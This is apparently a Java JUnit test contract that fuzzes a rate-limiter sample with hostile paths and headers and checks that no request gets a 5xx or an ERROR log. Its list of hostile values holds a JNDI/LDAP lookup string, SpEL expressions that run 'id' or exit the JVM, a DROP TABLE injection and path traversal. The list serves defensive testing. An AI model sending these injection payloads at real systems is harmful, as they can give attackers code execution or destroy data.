package io.github.ratelimit.sample;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/**
 * What a hostile client sends, on every path and header the limiter reads: malformed percent-encodings, a 7 KB value,
 * SpEL and JNDI strings, random characters. Nothing answers 5xx and nothing is logged at ERROR: a request the limiter
 * cannot read is answered as the application would answer it without the limiter, or 400.
 */
interface HostileInputContract {

    /** The sample's port. */
    int port();

    List<String> PATHS = List.of(
            "/api/hello",
            "/api/search?q=x",
            "/api/tenant-usage",
            "/api/public/ping",
            "/api/catalog/1",
            "/api/spawn-vm?token=x",
            "/api/export");

    /** The headers the samples' limits and the limiter read. */
    List<String> HEADERS = List.of(
            "X-Forwarded-For", "Forwarded", "X-User-Id", "X-User", "X-Api-Key", "X-Tenant", "X-Plan", "Authorization");

    static List<String> hostileValues() {
        Random random = new Random(20261126);
        StringBuilder noise = new StringBuilder();
        for (int i = 0; i < 200; i++) {
            noise.append((char) (0x21 + random.nextInt(0x7e - 0x21)));
        }
        return List.of(
                "%zz",
                "%",
                "%C0%AF",
                "${jndi:ldap://203.0.113.1/a}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "T(java.lang.System).exit(1)",
                "'); DROP TABLE users; --",
                "x".repeat(7 * 1024),
                "\u00e9\u00e8\u00ff",
                noise.toString(),
                "\"quoted\";q=1;w=2, other",
                "::ffff:999.1.1.1, ,,, unknown, [::1]:80");
    }

    /**
     * Paths the limiter reads. (A malformed path parameter, {@code /api/hello;a=%zz}, is a 500 of Spring MVC's own
     * without the limiter too: its dispatcher cannot parse it. Not the limiter's answer, so not asked here.)
     */
    @Test
    default void malformedPathsAreNeverA5xx() {
        ListAppender<ILoggingEvent> logged = listen();
        List<String> answers = new ArrayList<>();
        for (String path : List.of(
                "/api/catalog/%zz",
                "/api/catalog/%25zz",
                "/api/public/%zz",
                "/api/public/%",
                "/api/public/%2e%2e/%2e%2e/api/hello",
                "/api/public/" + "a".repeat(7 * 1024),
                "/api/hello?x=%zz",
                "/api/public//ping",
                "/api/catalog/%C0%AF")) {
            int status = RawHttp.get("127.0.0.98", port(), path, Map.of()).status(); // an address no other test uses
            answers.add(status + " " + path.substring(0, Math.min(path.length(), 40)));
        }
        assertThat(answers).noneMatch(answer -> answer.startsWith("5"));
        assertNoErrorLogged(logged);
    }

    @Test
    default void hostileHeaderValuesAreNeverA5xx() {
        ListAppender<ILoggingEvent> logged = listen();
        List<String> answers = new ArrayList<>();
        for (String value : hostileValues()) {
            // every header at once, except a long value: one header at a time, so that the request stays under the
            // server's header limit and reaches the limiter
            List<Map<String, String>> requests = value.length() < 1024
                    ? List.of(HEADERS.stream().collect(java.util.stream.Collectors.toMap(name -> name, name -> value)))
                    : HEADERS.stream().map(name -> Map.of(name, value)).toList();
            for (Map<String, String> headers : requests) {
                for (String path : PATHS) {
                    int status =
                            RawHttp.get("127.0.0.89", port(), path, headers).status();
                    answers.add(status + " " + path + " " + headers.keySet() + ": "
                            + value.substring(0, Math.min(value.length(), 20)));
                }
            }
        }
        assertThat(answers).noneMatch(answer -> answer.startsWith("5"));
        assertNoErrorLogged(logged);
    }

    /** Keeps what the application logs from now until {@link #assertNoErrorLogged}. */
    private static ListAppender<ILoggingEvent> listen() {
        ListAppender<ILoggingEvent> logged = new ListAppender<>();
        logged.start();
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).addAppender(logged);
        return logged;
    }

    private static void assertNoErrorLogged(ListAppender<ILoggingEvent> logged) {
        ((Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME)).detachAppender(logged);
        assertThat(logged.list)
                .filteredOn(event -> event.getLevel().isGreaterOrEqual(Level.ERROR))
                .extracting(ILoggingEvent::getFormattedMessage)
                .isEmpty();
    }
}
